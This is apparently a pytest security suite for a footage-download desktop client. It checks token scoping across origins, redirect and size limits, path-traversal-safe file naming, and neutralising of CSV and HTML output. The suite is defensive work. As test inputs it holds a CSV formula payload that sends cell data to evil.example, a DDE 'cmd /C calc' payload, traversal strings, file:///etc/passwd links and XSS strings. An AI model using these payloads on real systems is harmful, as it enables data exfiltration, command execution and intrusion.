"""Footage downloads and CSV exports (issue #21). Findings covered:

- the client sent the operator's bearer token to any absolute URL a footage item named; it now
  goes to the backend's own origin (scheme, host, port) only, another origin is fetched without
  it and only over https (plain http to another machine is refused before connecting; from a
  loopback backend a loopback host may be http). Redirects are followed by the client, hop by
  hop under the same rule: https -> http on the same host and port, or another port, carries
  no token; a redirect to plain http off the machine is refused; loops are bounded;
- no size cap: an item declared as 1 KiB wrote 30 MiB before the check. The download stops as
  soon as the bytes would pass ``size_bytes`` (an announced longer Content-Length is refused
  before a byte is written) and nothing is kept;
- ``Content-Length: abc`` escaped as a bare ValueError; it and other malformed replies (an
  unreadable Location, a redirect without one, a file:// redirect) are BackendErrors;
- the saved name was built from the server's ``case_number``: ``../../escaped`` and an
  absolute path landed outside the chosen folder. Names use a safe character set and the
  file, its .part, .quarantine and .custody.json are checked (resolved) to stay inside;
- a sign-in attempt with the user name ``=HYPERLINK(...)`` is audited with that actor and the
  audit CSV export wrote it as a formula; every CSV the app writes goes through
  ``rtcc_desktop.footage.csv_safe`` (cells starting = + - @ tab CR get a leading quote). The
  transparency report's HTML escapes its text.

Every server is a real one on 127.0.0.1 (tests/security/scripted_http.py); "another machine" is
reached through a scripted forward proxy on loopback, so nothing leaves the machine even when
the old code did connect.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from rtcc_desktop.api.client import BackendClient
from rtcc_desktop.api.errors import (
    BackendError,
    FootageIntegrityError,
    FootageNotWritten,
    InvalidCredentials,
    MalformedResponse,
    RefusedAddress,
)
from rtcc_desktop.api.schemas import FootageItem, Info, Role
from rtcc_desktop.config import BackendProfile
from rtcc_desktop.footage.csv_safe import FORMULA_STARTS, safe_cell
from rtcc_desktop.footage.custody import deliver_footage
from rtcc_desktop.footage.outbox import Outbox, OutboxOwner
from rtcc_desktop.footage.transparency import TransparencyReport, to_csv, to_html
from rtcc_desktop.mock_process import MockProcess
from rtcc_desktop.session import Session
from tests.security.scripted_http import (
    BEARER,
    Raw,
    Scripted,
    json_reply,
    make_cert,
    scripted_server,
    signed_in,
    signing_in_server,
)
from ui.footage.audit_view import AuditView
from ui.footage.requests_panel import RequestsPanel

CLIP = b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 200
FOOTAGE = "/api/v1/footage/f1"
ROOT = Path(__file__).resolve().parents[2]


def item_for(url: str, data: bytes = CLIP, size: int | None = None) -> FootageItem:
    return FootageItem(id="f1", camera_id=3, url=url, sha256=hashlib.sha256(data).hexdigest(),
                       size_bytes=len(data) if size is None else size)


def files_under(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file())


@pytest.fixture(scope="module")
def cert(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return make_cert(tmp_path_factory.mktemp("cert"))


@pytest.fixture
def backend(cert: tuple[Path, Path]) -> Iterator[Scripted]:
    """A scripted backend answering both http:// and https:// on one port, with a sign-in."""
    with signing_in_server(cert) as server:
        yield server


@pytest.fixture
def storage() -> Iterator[Scripted]:
    """Another origin (another port on loopback), serving the clip."""
    with scripted_server() as server:
        server.on("GET", "/clip", Raw(200, CLIP, {"Content-Type": "video/mp4"}))
        yield server


# --- credentials go to the backend's own origin only ----------------------------------------------------
def test_footage_on_another_origin_gets_no_bearer_token(backend: Scripted, storage: Scripted,
                                                        tmp_path: Path) -> None:
    backend.on("GET", FOOTAGE, Raw(200, CLIP))
    client = signed_in(backend.url)
    saved = client.download_footage(item_for(FOOTAGE), tmp_path / "own.mp4")
    assert saved.read_bytes() == CLIP
    assert backend.hits_for(FOOTAGE)[-1].headers.get("Authorization") == BEARER  # its own origin: yes

    saved = client.download_footage(item_for(f"{storage.url}/clip"), tmp_path / "elsewhere.mp4")
    assert saved.read_bytes() == CLIP
    hit = storage.hits_for("/clip")[-1]
    assert "Authorization" not in hit.headers, hit.headers


@pytest.mark.parametrize("link", ["http://storage.example/clip", "http://10.1.2.3:8080/clip",
                                  "file:///etc/passwd", "ftp://storage.example/clip"])
def test_footage_over_plain_http_off_this_computer_is_refused_before_connecting(
        backend: Scripted, proxy: Scripted, tmp_path: Path, link: str) -> None:
    client = signed_in(backend.url)
    with pytest.raises(RefusedAddress) as err:
        client.download_footage(item_for(link), tmp_path / "x.mp4")
    assert "not downloaded" in err.value.message and "https://" in err.value.message
    assert proxy.hits == [] and files_under(tmp_path) == []


def test_a_redirect_from_https_to_http_on_the_same_host_and_port_carries_no_token(
        backend: Scripted, cert: tuple[Path, Path], tmp_path: Path) -> None:
    backend.on("GET", FOOTAGE, Raw(302, b"", {"Location": f"http://127.0.0.1:{backend.port}/plain/clip"}))
    backend.on("GET", "/plain/clip", Raw(200, CLIP))
    client = signed_in(backend.https_url, cert[0])
    saved = client.download_footage(item_for(FOOTAGE), tmp_path / "x.mp4")
    assert saved.read_bytes() == CLIP
    first, second = backend.hits_for(FOOTAGE)[-1], backend.hits_for("/plain/clip")[-1]
    assert first.tls and first.headers.get("Authorization") == BEARER
    assert not second.tls and "Authorization" not in second.headers, second.headers


def test_a_redirect_to_another_port_carries_no_token(backend: Scripted, storage: Scripted,
                                                     cert: tuple[Path, Path], tmp_path: Path) -> None:
    backend.on("GET", FOOTAGE, Raw(307, b"", {"Location": f"{storage.url}/clip"}))
    client = signed_in(backend.https_url, cert[0])
    assert client.download_footage(item_for(FOOTAGE), tmp_path / "x.mp4").read_bytes() == CLIP
    assert "Authorization" not in storage.hits_for("/clip")[-1].headers


def test_a_redirect_within_the_backend_keeps_the_token(backend: Scripted, tmp_path: Path) -> None:
    backend.on("GET", FOOTAGE, Raw(302, b"", {"Location": "/files/f1"}))
    backend.on("GET", "/files/f1", Raw(200, CLIP))
    assert signed_in(backend.url).download_footage(item_for(FOOTAGE), tmp_path / "x.mp4").read_bytes() == CLIP
    assert backend.hits_for("/files/f1")[-1].headers.get("Authorization") == BEARER


def test_a_redirect_to_plain_http_off_this_computer_is_refused(backend: Scripted, proxy: Scripted,
                                                               cert: tuple[Path, Path], tmp_path: Path) -> None:
    backend.on("GET", FOOTAGE, Raw(302, b"", {"Location": "http://cdn.example/clip"}))
    with pytest.raises(RefusedAddress):
        signed_in(backend.https_url, cert[0]).download_footage(item_for(FOOTAGE), tmp_path / "x.mp4")
    assert proxy.hits == [] and files_under(tmp_path) == []


def test_a_redirect_loop_ends_in_words(backend: Scripted, tmp_path: Path) -> None:
    backend.on("GET", FOOTAGE, Raw(302, b"", {"Location": FOOTAGE}))
    started = time.monotonic()
    with pytest.raises(MalformedResponse) as err:
        signed_in(backend.url).download_footage(item_for(FOOTAGE), tmp_path / "x.mp4")
    assert "redirected more than" in err.value.message and time.monotonic() - started < 10
    assert len(backend.hits_for(FOOTAGE)) <= 6 and files_under(tmp_path) == []


# --- size and malformed replies -----------------------------------------------------------------------------
def test_a_body_longer_than_declared_is_stopped_at_the_declared_size(backend: Scripted, tmp_path: Path) -> None:
    """30 MiB without a Content-Length for an item of 1 KiB: never more than 1 KiB on disk."""
    small = CLIP[:1024]
    backend.on("GET", FOOTAGE, lambda: Raw(200, (b"\xab" * 65536 for _ in range(480)), length=False))
    seen: list[int] = []
    with pytest.raises(FootageIntegrityError) as err:
        signed_in(backend.url).download_footage(item_for(FOOTAGE, small), tmp_path / "x.mp4",
                                                progress=lambda done, _total: seen.append(done))
    assert "more than the 1,024 bytes" in err.value.message
    assert max(seen, default=0) <= 1024 and files_under(tmp_path) == []  # no .part, no .quarantine
    deadline = time.monotonic() + 5
    while not backend.sent and time.monotonic() < deadline:
        time.sleep(0.02)
    assert backend.sent and backend.sent[-1] < 30 * 2**20  # the client hung up early


def test_an_announced_length_above_the_size_is_refused_before_a_byte_is_written(backend: Scripted,
                                                                                  tmp_path: Path) -> None:
    backend.on("GET", FOOTAGE, Raw(200, CLIP))
    seen: list[int] = []
    with pytest.raises(FootageIntegrityError) as err:
        signed_in(backend.url).download_footage(item_for(FOOTAGE, size=1024), tmp_path / "x.mp4",
                                                progress=lambda done, _total: seen.append(done))
    assert "NOT downloaded" in err.value.message and seen == [] and files_under(tmp_path) == []


@pytest.mark.parametrize("reply", [
    Raw(200, CLIP, {"Content-Length": "abc", "Connection": "close"}),
    Raw(200, CLIP, {"Content-Length": "-5", "Connection": "close"}),
    Raw(302, b"", {"Location": "http://[::1"}),
    Raw(302, b"", {"Location": "file:///etc/passwd"}),
    Raw(302, b""),  # a redirect without a Location
], ids=["length-abc", "length-negative", "location-unreadable", "location-file", "location-missing"])
def test_a_malformed_footage_reply_is_a_backend_error(backend: Scripted, tmp_path: Path, reply: Raw) -> None:
    backend.on("GET", FOOTAGE, reply)
    with pytest.raises(BackendError) as err:
        signed_in(backend.url).download_footage(item_for(FOOTAGE), tmp_path / "x.mp4")
    assert err.value.message
    assert not (tmp_path / "x.mp4").exists() and not (tmp_path / "x.mp4.part").exists()


# --- where the file lands ----------------------------------------------------------------------------------
def request_json(case_number: str, footage_url: str) -> dict[str, object]:
    now = datetime.now(UTC)
    at = now.isoformat()
    return {"id": 1, "case_number": case_number, "incident_lat": 38.9, "incident_lon": -77.0, "incident_at": at,
            "window_start": (now - timedelta(hours=1)).isoformat(), "window_end": at, "camera_ids": [3],
            "reason": "Robbery", "radius_m": 100.0, "status": "fulfilled", "created_by": "op", "created_at": at,
            "updated_at": at, "footage": [item_for(footage_url).model_dump(mode="json")]}


@pytest.mark.parametrize("hostile", ["../../escaped", "ABS", "..", "a/../../b\\..\\c:d", ""],
                         ids=["dotdot", "absolute", "dots", "mixed", "empty"])
def test_a_hostile_case_number_cannot_place_files_outside_the_chosen_folder(
        qtbot: QtBot, backend: Scripted, tmp_path: Path, hostile: str) -> None:
    """Through the Requests panel's download, as an operator clicks it."""
    chosen = tmp_path / "a" / "b" / "chosen"
    chosen.mkdir(parents=True)
    case = str(tmp_path / "outside" / "abs") if hostile == "ABS" else hostile
    backend.on("GET", "/api/v1/requests/1", json_reply(request_json(case, FOOTAGE)))
    backend.on("GET", FOOTAGE, Raw(200, CLIP))
    client = signed_in(backend.url)
    session = Session(client, BackendProfile("T", backend.url), Info(name="t", version="1", environment="training"),
                      "op", Role.operator)
    panel = RequestsPanel(session, Outbox(tmp_path / "outbox", OutboxOwner("op", backend.url)))
    qtbot.addWidget(panel)
    request = client.get_request(1)
    panel.download(request, request.footage[0], folder=chosen)
    qtbot.waitUntil(lambda: bool(panel.details.result.text()), timeout=10_000)
    assert "verified" in panel.details.result.text(), panel.details.result.text()
    written = [p for p in files_under(tmp_path) if not p.is_relative_to(tmp_path / "outbox")]
    assert written and all(p.resolve().parent == chosen.resolve() for p in written), written
    assert {p.suffix for p in written} == {".mp4", ".json"}
    record = next(p for p in written if p.name.endswith(".custody.json")).read_text()
    assert case.replace("\\", "\\\\") in record  # the record keeps the case number as the backend gave it


def test_a_symlink_in_the_folder_does_not_lead_the_file_elsewhere(backend: Scripted, tmp_path: Path) -> None:
    chosen, elsewhere = tmp_path / "chosen", tmp_path / "elsewhere"
    chosen.mkdir()
    elsewhere.mkdir()
    backend.on("GET", "/api/v1/requests/1", json_reply(request_json("2026-000900", FOOTAGE)))
    backend.on("GET", FOOTAGE, Raw(200, CLIP))
    client = signed_in(backend.url)
    request = client.get_request(1)
    (chosen / "2026-000900-request1-camera3.mp4.part").symlink_to(elsewhere / "planted")
    with pytest.raises(RefusedAddress) as err:
        deliver_footage(client, request, request.footage[0], chosen, "op", backend.url)
    assert "outside the folder you chose" in err.value.message
    assert list(elsewhere.iterdir()) == [] and backend.hits_for(FOOTAGE) == []


# --- CSV exports -------------------------------------------------------------------------------------------
HOSTILE_USER = '=HYPERLINK("http://evil.example/?x="&B2,"open")'


def test_a_hostile_user_name_is_text_in_the_audit_csv(qtbot: QtBot, backend: Scripted, tmp_path: Path) -> None:
    """The backend's audit entries are its data, not the app's: a hostile actor (a user name the
    backend took as typed), role, target or case number is written as text."""
    entry = {"id": 1, "at": "2026-12-01T10:00:00+00:00", "actor": HOSTILE_USER, "role": "+cmd|' /C calc'!A0",
             "action": "auth.login", "outcome": "failure", "case_number": "@SUM(1+1)", "target": "-2+3",
             "detail": {"reason": "wrong username or password"}}
    backend.on("GET", "/api/v1/audit", json_reply({"items": [entry], "next_cursor": None, "total": 1}))
    session = Session(signed_in(backend.url), BackendProfile("T", backend.url),
                      Info(name="t", version="1", environment="training"), "sup", Role.supervisor)
    view = AuditView(session)
    qtbot.addWidget(view)
    view.reload()
    qtbot.waitUntil(lambda: view.model.rowCount() == 1, timeout=10_000)
    out = view.export_csv(tmp_path / "audit.csv")
    assert out is not None
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[1][1] == "'" + HOSTILE_USER
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_the_mock_audits_an_unknown_user_name_by_its_hash_only(mock_backend: MockProcess) -> None:
    """A name that is no account (often a password typed in the wrong field) is not kept as typed:
    the trail holds a hash, so repeated attempts still line up."""
    for _ in range(2):
        with pytest.raises(InvalidCredentials):
            BackendClient(mock_backend.url).sign_in(HOSTILE_USER, "not-a-password")
    supervisor = BackendClient(mock_backend.url)
    supervisor.sign_in("supervisor", "demo")
    expected = "unknown:" + hashlib.sha256(HOSTILE_USER.encode()).hexdigest()[:16]
    entries = supervisor.list_audit(actor=expected, action="auth.login").items
    assert len(entries) == 2 and all(e.outcome == "failure" for e in entries)
    leaks = [e for e in supervisor.list_audit(limit=500).items if HOSTILE_USER in str(e.model_dump())]
    assert not leaks, leaks
    assert not supervisor.list_audit(actor=HOSTILE_USER).items


def test_the_transparency_report_is_safe_as_csv_and_as_html() -> None:
    start = datetime(2026, 11, 1, tzinfo=UTC)
    report = TransparencyReport(start=start, end=start + timedelta(days=7),
                                requests_by_status={'<script>alert(1)</script>': 1}, owner_declines=-3)
    rows = list(csv.reader(to_csv(report).splitlines()))
    assert ["Camera owners who declined", "'-3"] in rows
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    page = to_html(report, program="<img src=x onerror=alert(1)>")
    assert "<script>alert" not in page and "<img src=x" not in page and "&lt;script&gt;" in page


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1" and safe_cell("2026-000123") == "2026-000123"


def test_every_csv_the_app_writes_goes_through_the_one_helper() -> None:
    """No module but csv_safe imports ``csv``: a new export cannot forget the neutralising."""
    writers = []
    for path in [*(ROOT / "rtcc_desktop").rglob("*.py"), *(ROOT / "ui").rglob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if "csv" in names:
                writers.append(path.relative_to(ROOT).as_posix())
    assert writers == ["rtcc_desktop/footage/csv_safe.py"], writers


def test_footage_larger_than_the_disk_has_room_for_is_refused_before_downloading(backend: Scripted,
                                                                                  tmp_path: Path) -> None:
    """A hostile or mistaken backend declaring petabytes must not fill the workstation's disk."""
    backend.on("GET", FOOTAGE, Raw(200, CLIP))
    with pytest.raises(FootageNotWritten, match="free"):
        signed_in(backend.url).download_footage(item_for(FOOTAGE, size=10**15), tmp_path / "clip.mp4")
    assert backend.hits_for(FOOTAGE) == [] and files_under(tmp_path) == []


def test_a_write_that_fails_mid_download_is_named_and_leaves_nothing(backend: Scripted, tmp_path: Path) -> None:
    """The disk filling up (ENOSPC, from /dev/full) is a message, not a bare OSError."""
    backend.on("GET", FOOTAGE, Raw(200, CLIP))
    dest = tmp_path / "clip.mp4"
    (tmp_path / "clip.mp4.part").symlink_to("/dev/full")
    with pytest.raises(FootageNotWritten, match="could not be written"):
        signed_in(backend.url).download_footage(item_for(FOOTAGE), dest)
    assert list(tmp_path.iterdir()) == []
